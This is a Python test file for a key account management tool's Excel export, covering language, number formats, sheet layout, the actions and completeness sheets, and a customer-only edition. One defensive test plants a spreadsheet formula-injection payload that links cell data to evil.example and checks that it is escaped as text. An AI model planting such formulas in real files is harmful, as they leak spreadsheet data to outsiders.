"""The workbook (``kamgen export --format xlsx``) as a spreadsheet user reads it: the
programme's language, number formats on exact figures, frozen headers and filters, the
actions and the completeness sheet; the shared edition's workbook holds one account and
what its edition shares.

The example portfolio (plans/) is German; the hand-worked one (tests/fixtures/handworked)
is English, and its figures are worked out in its files.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from kamgen.audience import edition
from kamgen.checks import RULES, check
from kamgen.export import ACCOUNT_COLUMNS
from kamgen.load import load_portfolio
from kamgen.site.i18n import catalogue
from kamgen.workbook import COLUMN_LABELS, SHEET_LABELS, number_formats, workbook

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "plans"
HANDWORKED = ROOT / "tests" / "fixtures" / "handworked"
AS_OF = dt.date(2026, 11, 23)


def book_of(plans: Path, audience: str = "internal", account: str | None = None
            ) -> Workbook:
    data = workbook(load_portfolio(plans), AS_OF, edition(audience, account))
    return load_workbook(io.BytesIO(data))


@pytest.fixture(scope="module")
def german() -> Workbook:
    return book_of(EXAMPLE)


@pytest.fixture(scope="module")
def english() -> Workbook:
    return book_of(HANDWORKED)


def table(book: Workbook, sheet: str) -> list[dict[str, Any]]:
    """The rows of a sheet by its headers."""
    rows = list(book[sheet].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def cell(book: Workbook, sheet: str, header: str, row: int = 2) -> Any:
    """The cell (with its number format) below ``header``, in the given row."""
    headers = [c.value for c in book[sheet][1]]
    return book[sheet].cell(row=row, column=headers.index(header) + 1)


# --- the programme's language --------------------------------------------------------------


def test_a_german_programme_gives_german_sheets_headers_and_values(german: Workbook) -> None:
    assert german.sheetnames == [
        "Kunden", "Gebiete", "Key Account Manager", "ABC-Analyse Umsatz", "ABC-Analyse DB",
        "Balanced Scorecard", "Mehrwertkonzepte", "Relative Qualität", "Befunde im Netzwerk",
        "Maßnahmen", "Vollständigkeit"]
    accounts = {row["Kunden-ID"]: row for row in table(german, "Kunden")}
    brenntal = accounts["brenntal-automotive"]
    assert brenntal["Kunde"] == "Brenntal Automotive SE"
    assert brenntal["Status"] == "Key Account"
    assert brenntal["Verantwortlich"] == "Sabine Hoffmann"
    assert brenntal["Gebiet"] == "Süd"
    assert brenntal["Kundenbewertung (Punkte)"] == 83.75
    assert accounts["donauried-landtechnik"]["Status"] == "Kandidat"
    statuses = {row["Status"] for row in table(german, "Balanced Scorecard")}
    assert statuses <= {"Im Plan", "Gefährdet", "Kritisch", "Keine Daten"}
    assert "Kritisch" in statuses
    perspectives = {row["Perspektive"] for row in table(german, "Balanced Scorecard")}
    assert perspectives <= {"Finanzen", "Kunden", "Prozesse", "Lernen & Entwicklung"}
    assert {row["Status"] for row in table(german, "Maßnahmen")} <= {
        "Offen", "In Arbeit", "Erledigt", "Verworfen"}


ENGLISH_IDS = {name for name, _ in ACCOUNT_COLUMNS} | {
    "key_account", "candidate", "former", "green", "amber", "red", "no_data", "open",
    "in_progress", "done", "dropped", "financial", "customer", "processes", "learning",
    "maintain", "develop", "selective", "reduce", "blind_spot", "single_threaded", "stale",
    "influential_opponent", "revenue_margin", "rating_revenue", "up", "down", "met",
    "not_met"}


def test_no_english_id_is_left_in_a_german_workbook(german: Workbook) -> None:
    left = [(sheet.title, c.coordinate, c.value) for sheet in german.worksheets
            for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str) and any(part in ENGLISH_IDS
                                                for part in c.value.split("; "))]
    # The account ids of the first column are ids on purpose: a stable key to look up.
    assert left == []


def test_every_label_of_the_workbook_is_in_both_languages() -> None:
    for language in ("en", "de"):
        labels = catalogue(language)
        assert set(COLUMN_LABELS) | set(SHEET_LABELS) <= set(labels), language
        for key in SHEET_LABELS:
            name = labels[key]
            # Excel's limits for a sheet name
            assert len(name) <= 31 and not set(name) & set("[]:*?/\\"), name


# --- number formats on exact figures --------------------------------------------------------


def test_number_formats_of_each_language() -> None:
    assert number_formats("de", "€") == {
        "text": "General", "money": '#,##0"\u00a0€"', "percent": "0.0%", "one": "#,##0.0",
        "two": "#,##0.00", "count": "#,##0", "year": "0", "date": "DD.MM.YYYY"}
    assert number_formats("en", "€")["money"] == '"€"#,##0'
    assert number_formats("en", "CHF")["date"] == "D MMM YYYY"


def test_figures_keep_their_value_and_are_rounded_by_their_format(german: Workbook) -> None:
    money = '#,##0"\u00a0€"'
    # Brenntal's first value-add concept: payback 12 · 45 000 / 113 750 = 4.747… months
    payback = cell(german, "Mehrwertkonzepte", "Amortisation (Monate)")
    assert (payback.value, payback.number_format) == (pytest.approx(540000 / 113750),
                                                      "#,##0.0")
    assert payback.data_type == "n"
    net = cell(german, "Mehrwertkonzepte", "Nettonutzen pro Jahr")
    assert (net.value, net.number_format) == (113750, money)
    roi = cell(german, "Mehrwertkonzepte", "ROI")
    assert roi.number_format == "0.0%"
    revenue = cell(german, "Kunden", "Umsatz")
    assert (revenue.value, revenue.number_format) == (3800000, money)
    share = cell(german, "Kunden", "Share of Wallet")
    # 3 800 000 / 14 500 000 = 26.2 %, kept as the share itself
    assert (share.value, share.number_format) == (pytest.approx(3800000 / 14500000), "0.0%")
    year = cell(german, "Kunden", "Jahr der Zahlen")
    assert (year.value, year.number_format) == (2025, "0")
    reviewed = cell(german, "Kunden", "Überprüft")
    assert isinstance(reviewed.value, dt.datetime)
    assert reviewed.number_format == "DD.MM.YYYY"
    # The matrix's position is the share of wallet in the example: a percentage too.
    assert cell(german, "Kunden", "Position").number_format == "0.0%"


def test_every_sheet_has_a_frozen_header_a_filter_and_fitting_widths(
        german: Workbook, english: Workbook) -> None:
    for book in (german, english):
        for sheet in book.worksheets:
            first = sheet.title in ("Kunden", "Accounts")
            assert sheet.freeze_panes == ("C2" if first else "B2"), sheet.title
            assert sheet.auto_filter.ref == sheet.dimensions, sheet.title
            headers = [c.value for c in sheet[1]]
            assert all(c.font.bold and c.alignment.wrap_text for c in sheet[1])
            for index, header in enumerate(headers):
                letter = sheet.cell(row=1, column=index + 1).column_letter
                width = sheet.column_dimensions[letter].width
                # wide enough for the header's longest word, never wider than 50
                assert max(len(word) for word in header.split()) + 2 <= width <= 50, (
                    sheet.title, header, width)
    names = cell(german, "Kunden", "Kunde").column_letter
    assert german["Kunden"].column_dimensions[names].width == len(
        "Gravenhorst Bauprofile GmbH") + 2


# --- actions and completeness ---------------------------------------------------------------


def test_the_actions_sheet_says_what_is_overdue_on_the_as_of_date(english: Workbook) -> None:
    # alpha: "Pilot VMI" was due 2026-11-22, the day before the as-of date: overdue;
    # "Run workshop" is due on the as-of date itself: not yet; done and dropped actions
    # are never overdue. beta's "Quarterly review" (due 2026-06-30, in progress) is.
    rows = [tuple(row.values()) for row in table(english, "Actions")]
    day = dt.datetime
    assert rows == [
        ("Alpha Industries AG", "Pilot VMI", "Anna Adler", day(2026, 11, 22), "Open", "yes"),
        ("Alpha Industries AG", "Run workshop", "Ben Brandt", day(2026, 11, 23), "In progress",
         "no"),
        ("Alpha Industries AG", "Send offer", "Anna Adler", day(2026, 10, 1), "Done", "no"),
        ("Alpha Industries AG", "Old idea", None, day(2026, 1, 1), "Dropped", "no"),
        ("Alpha Industries AG", "Call the CFO", "Anna Adler", None, "Open", "no"),
        ("Beta Maschinenbau GmbH", "Quarterly review", "Ben Brandt", day(2026, 6, 30),
         "In progress", "yes"),
    ]
    assert [c.value for c in english["Actions"][1]] == [
        "Account", "Action", "Owner", "Due", "Status", "Overdue"]


def test_the_completeness_sheet_has_each_plans_rules(german: Workbook) -> None:
    portfolio = load_portfolio(EXAMPLE)
    plans = {p.account: p for p in check(portfolio, AS_OF).plans}
    names = {aid: a.plan.name for aid, a in portfolio.accounts.items()}
    rows = {row["Kunde"]: row for row in table(german, "Vollständigkeit")}
    # marschland-elektro is former: not checked, not listed
    assert set(rows) == {names[aid] for aid in plans}
    labels = catalogue("de")
    for aid, plan in plans.items():
        row = rows[names[aid]]
        assert row["Vollständigkeit"] == pytest.approx(plan.completeness)
        assert (row["Erfüllte Regeln"], row["Geltende Regeln"]) == (plan.passed,
                                                                     len(plan.rules))
        for rule in RULES:
            if rule.scope == "account":
                said = row[labels[f"rule_{rule.id}"]]
                expected = "aus" if rule.id not in plan.rules else (
                    "nicht erfüllt" if rule.id in plan.failed else "erfüllt")
                assert said == expected, (aid, rule.id)
    # Hand-checked: velmar (A) meets 15 of 17 (no competitors: both competitors' rules);
    # gravenhorst (C) 4 of 8, with the scorecard's rules off for class C.
    velmar = rows["Velmar Medizintechnik GmbH"]
    assert (velmar["Erfüllte Regeln"], velmar["Geltende Regeln"]) == (15, 17)
    assert velmar["Share of Wallet der Wettbewerber in Prozent"] == "nicht erfüllt"
    gravenhorst = rows["Gravenhorst Bauprofile GmbH"]
    assert gravenhorst["Vollständigkeit"] == 0.5
    assert gravenhorst["Ziele in allen vier Scorecard-Perspektiven"] == "aus"
    assert cell(german, "Vollständigkeit", "Vollständigkeit").number_format == "0.0%"


# --- the shared edition ---------------------------------------------------------------------


def test_the_shared_workbook_holds_one_account_and_only_what_is_shared() -> None:
    book = book_of(EXAMPLE, "customer", "nordwerk-chemie")
    # No portfolio analysis, no completeness, no competitors, no network findings.
    assert book.sheetnames == ["Kunden", "Balanced Scorecard", "Mehrwertkonzepte",
                               "Maßnahmen"]
    (account,) = table(book, "Kunden")
    # Only columns with a shared value: not even a header for the rating or the revenue.
    assert list(account) == ["Kunden-ID", "Kunde", "Verantwortlich", "Branche",
                             "Scorecard-Zielerreichung", "Mehrwertkonzepte",
                             "Offene Maßnahmen", "Überfällige Maßnahmen", "Überprüft"]
    assert account["Kunde"] == "Nordwerk Chemie AG"
    for sheet in book.sheetnames[1:]:
        assert {row["Kunde"] for row in table(book, sheet)} == {"Nordwerk Chemie AG"}
    # The financial perspective is internal: not in the shared scorecard.
    assert "Finanzen" not in {row["Perspektive"] for row in table(book, "Balanced Scorecard")}
    portfolio = load_portfolio(EXAMPLE)
    others = [a.plan.name for aid, a in portfolio.accounts.items() if aid != "nordwerk-chemie"]
    texts = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str)]
    assert not [t for t in texts if any(name in t for name in others)]
    internal = [a.title for a in portfolio.accounts["nordwerk-chemie"].plan.actions
                if a.internal]
    shared = [row["Maßnahme"] for row in table(book, "Maßnahmen")]
    assert shared and not set(internal) & set(shared)


@pytest.mark.parametrize("audience, account", [("internal", None),
                                               ("customer", "nordwerk-chemie")])
def test_a_formula_in_plan_text_stays_text_in_either_edition(
        tmp_path: Path, audience: str, account: str | None) -> None:
    plans = tmp_path / "plans"
    shutil.copytree(EXAMPLE, plans)
    plan = plans / "accounts" / "nordwerk-chemie" / "plan.yaml"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = plan.read_text("utf-8")
    assert text.count("  - title: VMI-Pilot in Stade\n") == 1
    plan.write_text(text.replace("  - title: VMI-Pilot in Stade\n",
                                 f"  - title: {json.dumps(formula)}\n"), "utf-8")
    book = book_of(plans, audience, account)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str)
                and c.value.startswith(("=", "+", "-", "@"))]
    assert "'" + formula in {row["Maßnahme"] for row in table(book, "Maßnahmen")}
